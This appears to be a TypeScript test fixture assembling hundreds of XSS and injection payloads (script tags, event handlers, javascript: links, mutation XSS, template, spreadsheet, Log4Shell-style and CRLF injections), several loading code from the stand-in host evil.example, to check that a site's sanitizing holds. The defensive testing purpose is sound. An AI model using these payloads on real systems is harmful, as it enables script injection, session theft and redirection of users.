/**
 * Texts typed by an attacker who wants to run code in a page (T57, T90). Each has its own mark, an element `<xss-12>`
 * or an attribute `data-xss`, which no page of ours has, and sets `__xss` where it runs. `payload-marks.ts` looks for
 * all three.
 */
const run = '__xss=1'
const far = 'https://evil.example'

const scripts = [
  ...['<script>RUN</script><MARK>', '<SCRIPT data-xss>RUN</SCRIPT>'],
  ...['<script data-xss src=data:text/javascript,RUN></script>', '<script data-xss src="FAR/x.js"></script>'],
  ...['<script/data-xss>RUN</script>', '<script\n data-xss\n>RUN</script\n>'],
  ...['<<script data-xss>RUN//<</script>', '<script data-xss>RUN<!--', '<!--><script data-xss>RUN</script>-->'],
  '<script type="speculationrules" data-xss>{"prefetch":[{"urls":["FAR/"]}]}</script>',
  '<script type="importmap" data-xss>{"imports":{"react":"FAR/x.js"}}</script>',
  ...['<template shadowrootmode=open><script data-xss>RUN</script></template><MARK>', '<base data-xss href="FAR/">'],
]

/** On elements that fire their handlers automatically or at the first pointer movement. */
const handlers = [
  ['img src=x', 'onerror onload onloadstart onpointerover'],
  ['svg', 'onload onpointerenter onclick'],
  ['body', 'onload onpageshow onhashchange onresize'],
  ['iframe src=about:blank', 'onload onmouseenter'],
  ['video src=x', 'onerror onloadstart oncanplay'],
  ['audio src=x', 'onerror onloadedmetadata'],
  ['details open', 'ontoggle onpointerrawupdate'],
  ['input autofocus', 'onfocus onblur oninput onbeforeinput oninvalid'],
  ['a href=#x tabindex=0 autofocus', 'onfocus onmouseover onauxclick'],
  ['div style=animation:x contenteditable autofocus', 'onfocus onanimationstart onpaste'],
  ['object data=x', 'onerror'],
  ['form', 'onsubmit'],
  ['link rel=stylesheet href=x', 'onerror'],
  ['style', 'onload'],
  ['p popover id=x', 'onbeforetoggle'],
].flatMap(([tag = '', events = '']) => events.split(' ').map((event) => `<${tag} data-xss ${event}=RUN>`))

const links = [
  ...['javascript:RUN', 'JaVaScRiPt:RUN//https://example.com', '\tjavascript:RUN', 'java\tscript:RUN'],
  ...['&#106;avascript:RUN', 'vbscript:msgbox(1)', 'data:text/html,<script>RUN</script><MARK>'],
  ...['data:image/svg+xml,<svg xmlns="http://www.w3.org/2000/svg" onload="RUN"/>', 'blob:FAR/x', 'filesystem:FAR/x'],
  ...['<a data-xss href="javascript:RUN">press</a>', '<a data-xss href=" &#14; javascript:RUN">press</a>'],
  ...['<a data-xss href="data:text/html,RUN" download>press</a>', '<a data-xss ping="FAR/" href="/home">press</a>'],
  '<form data-xss action=javascript:RUN><button>press</button></form>',
  '<button data-xss formaction=javascript:RUN>press</button>',
  '<iframe data-xss srcdoc="<script>parent.RUN</script>"></iframe>',
  ...['<object data-xss data=javascript:RUN></object>', '<embed data-xss src=javascript:RUN>'],
  ...['[press](javascript:RUN)', '![x](FAR/x.png)', '<javascript:RUN>'],
]

/** For places where only https may become a link: addresses that break out of their attribute or aren't what they seem. */
const addresses = [
  ...['FAR/"onmouseover="RUN"data-xss="', "FAR/'onmouseover='RUN'data-xss='", 'FAR/`onmouseover=`RUN`data-xss=`'],
  ...['FAR/"><img src=x onerror=RUN data-xss>', 'FAR/<svg/onload=RUN data-xss>', 'FAR/?q=javascript:RUN'],
  ...['https://evil.example\\@localhost/"data-xss=1', '//evil.example/x', 'https:/\\evil.example/x'],
  ...['https://[::1"onclick=RUN]/data-xss', 'https://xn--80ak6aa92e.com/аррӏе', 'https://evil.example/\u202egpj.exe'],
  ...['http://evil.example/"><MARK>', 'HTTPS://EVIL.EXAMPLE/"data-xss'],
]

const drawings = [
  ...['<svg><script data-xss>RUN</script></svg>', '<svg><script data-xss href="data:,RUN"/></svg>'],
  '<svg><animate data-xss onbegin=RUN attributeName=x dur=1s>',
  '<svg><a data-xss xlink:href="javascript:RUN"><text y=20>press</text></a></svg>',
  '<svg><use data-xss href="data:image/svg+xml,<svg id=x onload=RUN />#x"/></svg>',
  '<svg><foreignObject><img data-xss src=x onerror=RUN></foreignObject></svg>',
  '<math><a data-xss xlink:href=javascript:RUN>press</a></math>',
  '<?xml version="1.0"?><x:script xmlns:x="http://www.w3.org/1999/xhtml" data-xss>RUN</x:script>',
  '<![CDATA[<img src=x onerror=RUN data-xss>]]>',
]

/** Mutation XSS: harmless after sanitizing, but parsed to a different tree the second time. */
const mutants = [
  '<noscript><p title="</noscript><img src=x onerror=RUN data-xss>">',
  '<math><mtext><table><mglyph><style><img title="--></style><img src=x onerror=RUN data-xss>">',
  '<math><mtext><mglyph><svg><mtext><textarea><a title="</textarea><img src=x onerror=RUN data-xss>">',
  '<svg></p><style><a id="</style><img src=x onerror=RUN data-xss>">',
  '<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=RUN data-xss>',
  ...['<table><caption><img data-xss src=x onerror=RUN></table>', '<table><td background=FAR/ data-xss>'],
  '<xmp><p title="</xmp><img src=x onerror=RUN data-xss>">',
  ...['<p id="a&#10;b"><img alt="`><img data-xss src=x onerror=RUN>`">', '<a href="x"<img data-xss src=x onerror=RUN>'],
  ...['<img src="x` `<script>RUN</script>"` `><MARK>', '<plaintext data-xss>'],
]

/** Break out of the element that contains them. */
const closers = ['title', 'textarea', 'style', 'script', 'noscript', 'template', 'xmp', 'iframe', 'option', 'select']
  .concat(['button', 'p', 'body', 'html', 'svg', 'dialog'])
  .map((name) => `</${name}><img data-xss src=x onerror=RUN>`)

/** Break out of the attribute that contains them. */
const breakers = [
  ...['" autofocus onfocus=RUN data-xss x="', "' autofocus onfocus=RUN data-xss x='", '` onfocus=RUN data-xss x=`'],
  ...[' onmouseover=RUN data-xss ', '"><img data-xss src=x onerror=RUN>', "'><img data-xss src=x onerror=RUN>"],
  ...['"/style="position:fixed;inset:0"data-xss="', '&quot;><img data-xss src=x onerror=RUN>'],
  ...['"]}</script><img data-xss src=x onerror=RUN>', '--><img data-xss src=x onerror=RUN>'],
  '\u2028RUN\u2029<MARK>',
]

/** Syntax of template engines, spreadsheets, and log processors. */
const languages = [
  ...['{{constructor.constructor("RUN")()}}', '{{7*7}}<MARK>', '§{{<%[%\'"}}%\\<MARK>', '<%= 7*7 %><MARK>'],
  ...['__proto__', 'constructor', 'toString', '§{jndi:ldap://evil.example/x}', '=HYPERLINK("FAR/","press")', '=1+1'],
  ...['+1+1', '-1+1', '@SUM(1)', '\t=1+1', '\r=1+1', '=cmd|"/c calc"!A0', '",=1+1,"', '\r\nBcc: everybody@purdue.edu'],
  ...['\r\nEND:VEVENT\r\nBEGIN:VEVENT\r\nSUMMARY:planted', '\\nATTACH:FAR/x', '\r\nSet-Cookie: quiver=x'],
  '%0d%0aLocation:%20FAR',
]

const entities = [
  ...['&lt;img data-xss src=x onerror=RUN&gt;', '&#60;img data-xss src=x onerror=RUN&#62;'],
  ...['%3Cimg%20data-xss%20src=x%20onerror=RUN%3E', '\\u003cimg data-xss src=x onerror=RUN\\u003e'],
  ...['\\x3cimg data-xss src=x onerror=RUN\\x3e', '+ADw-img data-xss src=x onerror=RUN+AD4-'],
  '&#0;<img data-xss src=x onerror=RUN>',
]

/** Reversed, invisible, or stacked characters. */
const letters = [
  ...['\u202e<MARK>gpj.exe', '\u2066\u202e>ssx< \u2069<MARK>', '\u200e\u200f\u061c<MARK>'],
  ...['<\u200bimg data-xss src=x onerror=RUN>', '\ufeff<img data-xss src=x onerror=RUN>'],
  ...['<img\u00a0data-xss src=x onerror=RUN>', '<img\u000cdata-xss\u000csrc=x\u000conerror=RUN>'],
  ...[`Z${'\u0300\u0316\u0489'.repeat(20)}<MARK>`, '\ud83c\udff9\u200d\u2640\ufe0f<MARK>', '﷽<MARK>'],
  'İ<img data-xss src=x onerror=RUN>ſcript',
]

/** Without a script: reads data, redirects, or takes a name that a script relies on (DOM clobbering). */
const quiet = [
  ...['<meta http-equiv=refresh content="0;url=FAR/" data-xss>', '<meta name=referrer content=unsafe-url data-xss>'],
  ...['<link rel=stylesheet href=FAR/x.css data-xss>', '<link rel=preload as=script href=FAR/x.js data-xss>'],
  ...['<img data-xss srcset="FAR/x 1x" src=FAR/x>', '<style data-xss>*{background:url(FAR/x)}</style>'],
  ...['<iframe data-xss src=FAR/></iframe>', '<frameset data-xss><frame src=FAR/></frameset>'],
  '<form data-xss id=root action=FAR/><input name=attributes><input name=children></form>',
  '<img data-xss name=getElementById><img data-xss name=location>',
  ...['<a data-xss id=quiver><a data-xss id=quiver name=url href=FAR>', '<object data-xss data=FAR/></object>'],
]

/** All payloads, each with its own number in its mark. */
export const payloads = [
  ...[...scripts, ...handlers, ...links, ...addresses, ...drawings, ...mutants, ...closers, ...breakers],
  ...[...languages, ...entities, ...letters, ...quiet],
].map((text, n) =>
  text
    .replaceAll('MARK', `xss-${n}`)
    .replaceAll('data-xss', `data-xss=${n}`)
    .replaceAll('RUN', run)
    .replaceAll('FAR', far)
    // What template strings begin with, which stands for nothing here.
    .replaceAll('§', '$'),
)

/** Closes everything that a payload may have left open, so that the next one counts on its own. */
const ending =
  '"\'`>--></textarea></title></style></script></noscript></xmp></noembed></iframe></template></listing></select></svg></math></table></form> '

/** All payloads in one text; those that swallow the rest come last. */
export const allPayloads = payloads
  .toSorted((one, other) => Number(one.includes('<plaintext')) - Number(other.includes('<plaintext')))
  .join(ending)
